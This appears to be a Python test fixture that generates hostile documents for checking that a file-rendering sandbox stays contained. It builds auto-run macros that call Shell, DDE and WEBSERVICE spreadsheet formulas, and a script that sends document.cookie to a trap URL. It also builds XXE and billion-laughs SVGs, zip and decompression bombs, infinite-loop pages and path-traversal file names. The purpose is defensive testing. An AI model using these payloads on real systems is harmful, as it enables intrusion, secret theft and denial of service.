"""Deliverables that try to reach the network, the host's files, all memory, or run forever."""

import io
import random
import struct
import zlib
from dataclasses import dataclass
from pathlib import Path

import openpyxl
from PIL import Image

from tests.content import samples

RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
DRAWING = "http://schemas.openxmlformats.org/drawingml/2006"
MAGENTA = (255, 0, 255)
SECRET = "XYLOPHONE"


@dataclass(frozen=True)
class Trap:
    """What the files try to reach."""

    url: str
    folder: Path

    @property
    def text(self) -> str:
        return f"file://{self.folder}/secret.txt"

    @property
    def picture(self) -> str:
        return f"file://{self.folder}/secret.png"

    @property
    def page(self) -> str:
        return f"file://{self.folder}/secret.html"


def plant(folder: Path) -> None:
    """A text, a picture and a page that must stay secret."""
    (folder / "secret.txt").write_text(f"{SECRET} {SECRET}", encoding="utf-8")
    (folder / "secret.html").write_text(
        f'<body style="background:#ff00ff">{SECRET}', encoding="utf-8"
    )
    stream = io.BytesIO()
    Image.new("RGB", (300, 300), MAGENTA).save(stream, "PNG")
    (folder / "secret.png").write_bytes(stream.getvalue())


def linked_picture(*targets: str) -> bytes:
    """A Word document with linked pictures."""
    shapes, relations = "", ""
    for number, target in enumerate(targets, 1):
        shapes += (
            f'<w:p><w:r><w:drawing><wp:inline xmlns:wp="{DRAWING}/wordprocessingDrawing">'
            f'<wp:extent cx="2000000" cy="2000000"/><wp:docPr id="{number}" name="p"/>'
            f'<a:graphic xmlns:a="{DRAWING}/main"><a:graphicData uri="{DRAWING}/picture">'
            f'<pic:pic xmlns:pic="{DRAWING}/picture"><pic:nvPicPr><pic:cNvPr id="0" name="p"/>'
            f'<pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip xmlns:r="{RELATIONS}" '
            f'r:link="rId{number}"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr>'
            '<a:xfrm><a:off x="0" y="0"/><a:ext cx="2000000" cy="2000000"/></a:xfrm>'
            '<a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData>'
            "</a:graphic></wp:inline></w:drawing></w:r></w:p>"
        )
        relations += (
            f'<Relationship Id="rId{number}" Type="{RELATIONS}/image" Target="{target}" '
            'TargetMode="External"/>'
        )
    return samples.docx(
        samples.paragraph("Before the pictures.") + shapes,
        {"word/_rels/document.xml.rels": rels(relations)},
    )


def rels(relations: str) -> str:
    kind = "http://schemas.openxmlformats.org/package/2006/relationships"
    return f'<?xml version="1.0"?><Relationships xmlns="{kind}">{relations}</Relationships>'


def field(instruction: str) -> bytes:
    """A Word document with a field that is computed on opening."""
    return samples.docx(
        f'<w:p><w:fldSimple w:instr="{instruction}"><w:r><w:t>old</w:t></w:r></w:fldSimple></w:p>'
    )


def linked_deck(target: str) -> bytes:
    """A deck whose picture is a link."""
    parts = samples.unzipped(samples.deck())
    name = "ppt/slides/_rels/slide2.xml.rels"
    old = parts[name].decode()
    start = old.index('Target="../media/')
    end = old.index('"', start + 8) + 1
    parts[name] = f'{old[:start]}Target="{target}" TargetMode="External"{old[end:]}'.encode()
    return samples.zipped(parts)


def macro_document() -> bytes:
    """An OpenDocument text with a Basic macro that runs when it is opened, if it may."""
    name = "http://openoffice.org/2000"
    office = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
    module = (
        f'<?xml version="1.0"?><script:module xmlns:script="{name}/script" script:name="M" '
        'script:language="StarBasic">Sub Main\nThisComponent.Text.String = "MACRO RAN"\n'
        'Shell("touch /job/work/pwned")\nEnd Sub</script:module>'
    )
    library = (
        f'<?xml version="1.0"?><library:library xmlns:library="{name}/library" '
        'library:name="Standard" library:readonly="false" library:passwordprotected="false">'
        '<library:element library:name="M"/></library:library>'
    )
    libraries = (
        f'<?xml version="1.0"?><library:libraries xmlns:library="{name}/library">'
        '<library:library library:name="Standard" library:link="false"/></library:libraries>'
    )
    content = (
        f'<?xml version="1.0"?><office:document-content xmlns:office="{office}" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
        'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
        'xmlns:xlink="http://www.w3.org/1999/xlink" office:version="1.2"><office:scripts>'
        "<office:event-listeners><script:event-listener script:language='ooo:script' "
        "script:event-name='dom:load' "
        "xlink:href='vnd.sun.star.script:Standard.M.Main?language=Basic&amp;location=document' "
        "xlink:type='simple'/></office:event-listeners></office:scripts><office:body><office:text>"
        "<text:p>The text itself.</text:p></office:text></office:body></office:document-content>"
    )
    files = ["content.xml", "Basic/script-lc.xml", "Basic/Standard/script-lb.xml"]
    entries = "".join(
        f'<m:file-entry m:full-path="{path}" m:media-type="text/xml"/>'
        for path in [*files, "Basic/Standard/M.xml"]
    )
    manifest = (
        '<?xml version="1.0"?>'
        '<m:manifest xmlns:m="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
        '<m:file-entry m:full-path="/" m:media-type="application/vnd.oasis.opendocument.text"/>'
        f"{entries}</m:manifest>"
    )
    return samples.zipped(
        {
            "mimetype": "application/vnd.oasis.opendocument.text",
            "content.xml": content,
            "Basic/script-lc.xml": libraries,
            "Basic/Standard/script-lb.xml": library,
            "Basic/Standard/M.xml": module,
            "META-INF/manifest.xml": manifest,
        }
    )


def huge_picture(side: int) -> bytes:
    """A PNG of a few kilobytes that says that it is immense."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    packer = zlib.compressobj(9)
    rows = packer.compress(bytes(1 << 20)) + packer.flush()
    head = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def long_document(pages: int) -> bytes:
    broken = '<w:p><w:r><w:br w:type="page"/></w:r></w:p>'
    body = broken.join(samples.paragraph(f"Page {number} " * 40) for number in range(1, pages + 1))
    return samples.docx(body)


def asking_workbook(url: str) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    for row in (
        [f'=WEBSERVICE("{url}/w")', f'=HYPERLINK("{url}/h","x")'],
        ["=cmd|'/c touch pwned'!A0", "='file:///etc/[passwd]x'!A1"],
    ):
        sheet.append(row)
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


def pages(trap: Trap) -> dict[str, bytes]:
    """Web pages and drawings."""
    url = trap.url
    reaching = f"""<h1>Visible</h1><img src="{url}/a.png"><link rel="stylesheet" href="{url}/b.css">
<script src="{url}/c.js"></script><iframe src="{trap.page}"></iframe><embed src="{trap.text}">
<object data="{trap.page}"></object><img src="{trap.picture}"><img src="../../secret.png">
<iframe src="{url}/frame"></iframe><video src="{url}/v.mp4"></video><form action="{url}/f"></form>
<script>fetch("{url}/d"); navigator.sendBeacon("{url}/e");
new WebSocket("{url}".replace("http", "ws"));
new Image().src = "{url}/f?" + document.cookie; new EventSource("{url}/g");
fetch("{trap.text}").then(r => r.text()).then(t => document.body.append(t)).catch(() => 0);
open("{trap.page}"); document.forms[0].submit(); new Worker("{url}/h.js");
new RTCPeerConnection({{iceServers: [{{urls: "stun:127.0.0.1:3478"}}]}}).createDataChannel("x");
setTimeout(() => location = "{trap.page}", 100);</script>
<meta http-equiv="refresh" content="1;url={trap.page}">"""
    entity = f"""<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "{trap.text}">]>
<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 200 100"><text y="40">&x;</text>
<image href="{trap.picture}" width="90" height="90"/>
<image href="{url}/s.png" width="9" height="9"/><foreignObject width="90" height="90">
<iframe xmlns="http://www.w3.org/1999/xhtml" src="{trap.page}"/>
</foreignObject><script>while (true) {{}}</script></svg>"""
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return {
        "reaching.html": reaching.encode(),
        "endless.html": b"<h1>Endless</h1><script>while (true) {}</script>",
        "hungry.html": b"<h1>Hungry</h1><script>const a = [];"
        b"for (;;) a.push(new Uint8Array(1e8).fill(1))</script>",
        "growing.html": b"<h1>Growing</h1><script>setInterval(() => {"
        b"for (let i = 0; i < 999; i++) document.body.append('more '.repeat(99)) }, 0)</script>",
        "tall.html": b"<h1>Tall</h1><div style='height:33000000px;width:99999px'></div>",
        "entity.svg": entity.encode(),
        "laughs.svg": f'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY l0 "ha">{laughs}]>'
        '<svg xmlns="http://www.w3.org/2000/svg"><text y="40">&l9;</text></svg>'.encode(),
        "immense.svg": b'<svg xmlns="http://www.w3.org/2000/svg" width="9999999" height="1"/>',
    }


def corrupt() -> dict[str, bytes]:
    """Files of the usual kinds, cut off or with bytes exchanged."""
    whole = {
        "docx": samples.docx(samples.paragraph("words " * 500)),
        "pptx": samples.deck(),
        "xlsx": samples.workbook(),
        "pdf": samples.pdf([samples.words("words")]),
        "png": samples.noise(60),
        "jpg": samples.image(90, 90, "JPEG"),
        "gif": samples.film(9),
        "webp": samples.image(90, 90, "WEBP"),
        "zip": samples.zipped({"a.txt": "words " * 500}),
        "odt": macro_document(),
    }
    found = {f"cut.{suffix}": data[: len(data) * 2 // 3] for suffix, data in whole.items()}
    for suffix, data in whole.items():
        bent = bytearray(data)
        for at in random.Random(suffix).sample(range(8, len(bent)), max(3, len(bent) // 100)):
            bent[at] ^= 0x5A
        found[f"bent.{suffix}"] = bytes(bent)
    return found


def corpus(trap: Trap) -> dict[str, bytes]:
    """All of them, by name."""
    url = trap.url
    office = {
        "linked.docx": linked_picture(f"{url}/a.png", trap.picture, trap.text),
        "include.docx": field(f"INCLUDETEXT &quot;{trap.folder}/secret.txt&quot;"),
        "picture.docx": field(f"INCLUDEPICTURE &quot;{url}/b.png&quot; \\d"),
        "linked.pptx": linked_deck(f"{url}/p.png"),
        "asking.xlsx": asking_workbook(url),
        "macros.docm": samples.docx(samples.paragraph("x"), {"word/vbaProject.bin": b"macro"}),
        "macros.odt": macro_document(),
        "linked.rtf": rf'{{\rtf1 x {{\field{{\*\fldinst INCLUDEPICTURE "{url}" \\d}}}}}}'.encode(),
        "long.docx": long_document(200),
        "bomb.docx": samples.bomb(samples.unzipped(samples.docx("")), 400),
        "bomb.zip": samples.bomb({}, 400),
        "bomb.xlsx": samples.bomb(samples.unzipped(samples.workbook()), 400),
    }
    others = {
        "huge.png": huge_picture(60_000),
        "list.mp4": f"#EXTM3U\n#EXTINF:1,\n{trap.text}\n#EXTINF:1,\n{url}/x.ts\n".encode(),
        "list.mp3": f"ffconcat version 1.0\nfile {trap.text}\n".encode(),
        "formulas.csv": f"=cmd|'/c touch pwned'!A0,+1,@x\n=WEBSERVICE(\"{url}\"),2,3\n".encode(),
        "notes.md": f"![a]({url}/m.png) ![b]({trap.picture}) <img src='{url}/n.png'>".encode(),
        "run.pdf": samples.pdf([samples.words("shown")]).replace(
            b"/Type /Catalog",
            f"/Type /Catalog /OpenAction << /S /URI /URI ({url}/u) >>".encode(),
        ),
        "deep.json": b"[" * 300_000,
        "../../escape.html": b"<p>escaped</p>",
        f"{'n' * 3000}.txt": b"long name",
        "new\nline\x1b[31m.txt": b"odd name",
    }
    return {**pages(trap), **office, **others, **corrupt()}
